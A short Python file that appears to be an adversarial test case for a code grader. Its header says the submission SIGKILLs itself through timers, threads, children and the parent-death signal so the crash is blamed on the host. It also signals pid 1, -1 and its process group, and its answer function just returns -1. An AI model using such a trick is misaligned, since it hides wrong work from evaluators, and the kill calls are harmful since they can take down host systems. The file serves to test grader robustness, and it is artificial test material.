# attack: has SIGKILL sent to itself by timers, threads, children and the parent-death signal, to blame the host
# expect: incorrect
import ctypes
import os
import signal
import threading

libc = ctypes.CDLL(None)


class SigEvent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_long), ("signo", ctypes.c_int), ("notify", ctypes.c_int), ("rest", ctypes.c_long * 6)]


def strike():
    libc.prctl(1, signal.SIGKILL, 0, 0, 0)
    os.kill(os.getpid(), signal.SIGKILL)


event = SigEvent(0, signal.SIGKILL, 0)
timer = ctypes.c_int(-1)
if libc.syscall(222, 0, ctypes.byref(event), ctypes.byref(timer)) == 0:
    soon = (ctypes.c_long * 4)(0, 1000000, 0, 1000000)
    libc.syscall(223, timer, 0, ctypes.byref(soon), None)
thread = threading.Thread(target=strike)
thread.start()
thread.join()
for victim in (os.getpid(), 1, -1, 0):
    child = os.fork()
    if child == 0:
        try:
            os.kill(victim, signal.SIGKILL)
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def code(n):
    return -1


share = code
